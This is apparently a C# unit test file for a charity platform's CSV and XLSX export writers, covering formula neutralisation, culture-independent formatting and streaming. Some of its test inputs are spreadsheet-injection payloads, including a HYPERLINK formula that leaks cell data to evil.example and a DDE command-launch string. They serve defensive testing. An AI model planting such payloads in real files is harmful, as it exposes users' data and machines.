using System.Globalization;
using TrustFund.Application.Exports;
using TrustFund.Infrastructure.Exports;

namespace TrustFund.Web.Tests.Exports;

/// <summary>The neutraliser and the two writers on their own: hostile text, numbers and dates, and that files are written while rows are still being read.</summary>
public sealed class ExportWriterTests
{
    [TestCase("=1+1")]
    [TestCase("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")]
    [TestCase("+SUM(A1:A9)")]
    [TestCase("-2+3")]
    [TestCase("@SUM(1,2)")]
    [TestCase("\t=cmd|' /C calc'!A0")]
    [TestCase("\r=1")]
    [TestCase("=")]
    public void Neutralise_HostileText_GetsALeadingQuote(string hostile)
    {
        Assert.That(FormulaNeutraliser.Neutralise(hostile), Is.EqualTo("'" + hostile));
    }

    [TestCase("")]
    [TestCase("Safe shelter")]
    [TestCase("a=b")]
    [TestCase("1-2")]
    [TestCase(" =1")]
    [TestCase("'=1")]
    [TestCase("جمعية الأمل لحماية ضحايا الاتجار بالبشر")]
    [TestCase("希望之家反人口贩运援助中心")]
    public void Neutralise_HarmlessText_IsUnchanged(string text)
    {
        Assert.That(FormulaNeutraliser.Neutralise(text), Is.EqualTo(text));
    }

    [Test]
    public void Cells_NumbersAreInvariantAndDatesIso_WhateverTheCulture()
    {
        var before = CultureInfo.CurrentCulture;
        CultureInfo.CurrentCulture = new CultureInfo("fr-FR");
        try
        {
            Assert.Multiple(() =>
            {
                Assert.That(ExportCells.Text(12345.67m), Is.EqualTo("12345.67"));
                Assert.That(ExportCells.Text(-0.5m), Is.EqualTo("-0.5"));
                Assert.That(ExportCells.Text(1234567), Is.EqualTo("1234567"));
                Assert.That(ExportCells.Text(new DateOnly(2026, 3, 2)), Is.EqualTo("2026-03-02"));
                Assert.That(ExportCells.Text(new DateTime(2026, 3, 2, 9, 5, 7, DateTimeKind.Utc)), Is.EqualTo("2026-03-02T09:05:07Z"));
                Assert.That(ExportCells.Text(null), Is.EqualTo(string.Empty));
                Assert.That(ExportCells.Text("-1"), Is.EqualTo("'-1"));
            });
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }
    }

    [Test]
    public async Task Csv_HostileAndMultilingualText_ReadsBackNeutralisedAndIntact()
    {
        var file = await WriteAsync(new CsvExportWriter(), Table(
            ["=1+1", "جمعية الأمل", 12.5m],
            ["Line one\nline two, \"quoted\"", "希望之家", null]));

        var rows = ExportFiles.ReadCsv(file);
        Assert.Multiple(() =>
        {
            Assert.That(file.Take(3), Is.EqualTo(ExportFiles.Utf8Bom));
            Assert.That(rows[0], Is.EqualTo(new[] { "Text", "Name", "Amount" }));
            Assert.That(rows[1], Is.EqualTo(new[] { "'=1+1", "جمعية الأمل", "12.5" }));
            Assert.That(rows[2], Is.EqualTo(new[] { "Line one\nline two, \"quoted\"", "希望之家", string.Empty }));
            Assert.That(rows, Has.Count.EqualTo(3));
        });
    }

    [Test]
    public async Task Xlsx_HostileMultilingualAndControlText_ReadsBackAsTextAndNumbers()
    {
        var file = await WriteAsync(new XlsxExportWriter(), Table(
            ["@SUM(1,2)", "جمعية الأمل", 12.5m],
            ["bell\u0007here", "希望之家", null]));

        var rows = ExportFiles.ReadXlsx(file);
        Assert.Multiple(() =>
        {
            Assert.That(rows[0], Is.EqualTo(new[] { "Text", "Name", "Amount" }));
            Assert.That(rows[1], Is.EqualTo(new[] { "'@SUM(1,2)", "جمعية الأمل", "12.5" }));
            Assert.That(rows[2], Is.EqualTo(new[] { "bell\uFFFDhere", "希望之家", string.Empty }));
            Assert.That(ExportFiles.NumberCells(file), Is.EqualTo(new[] { (1, 2, "12.5") }));
        });
    }

    /// <summary>
    /// Streams: by the time the 40,000th of 50,000 rows is read, most of the file has already left the
    /// writer (the rows read so far are not being held back), and the file is complete and readable.
    /// </summary>
    [TestCase("csv")]
    [TestCase("xlsx")]
    public async Task Writer_LargeTable_WritesToTheOutputWhileRowsAreStillBeingRead(string format)
    {
        IExportWriter writer = format == "csv" ? new CsvExportWriter() : new XlsxExportWriter();
        var output = new MemoryStream();
        long writtenWhenRow40000WasRead = -1;
        async IAsyncEnumerable<object?[]> Rows()
        {
            for (var i = 1; i <= 50_000; i++)
            {
                if (i == 40_000)
                {
                    writtenWhenRow40000WasRead = output.Length;
                }

                yield return [$"Organisation number {i} with a longer name", i, i * 1.25m, new DateOnly(2026, 1, 1).AddDays(i % 365)];
                if (i % 1000 == 0)
                {
                    await Task.Yield();
                }
            }
        }

        await writer.WriteAsync(new ExportTable("big", ["Name", "Number", "Amount", "Date"], Rows()), output, CancellationToken.None);

        var file = output.ToArray();
        var rows = format == "csv" ? ExportFiles.ReadCsv(file) : ExportFiles.ReadXlsx(file);
        Assert.Multiple(() =>
        {
            Assert.That(writtenWhenRow40000WasRead, Is.GreaterThan(file.Length / 2), $"bytes written when row 40,000 was read, of {file.Length}");
            Assert.That(rows, Has.Count.EqualTo(50_001));
            Assert.That(rows[^1], Is.EqualTo(new[] { "Organisation number 50000 with a longer name", "50000", "62500.00", "2026-12-27" }));
        });
    }

    private static ExportTable Table(params object?[][] rows) => new("test", ["Text", "Name", "Amount"], ToAsync(rows));

    private static async IAsyncEnumerable<object?[]> ToAsync(object?[][] rows)
    {
        foreach (var row in rows)
        {
            await Task.Yield();
            yield return row;
        }
    }

    private static async Task<byte[]> WriteAsync(IExportWriter writer, ExportTable table)
    {
        using var output = new MemoryStream();
        await writer.WriteAsync(table, output, CancellationToken.None);
        return output.ToArray();
    }
}
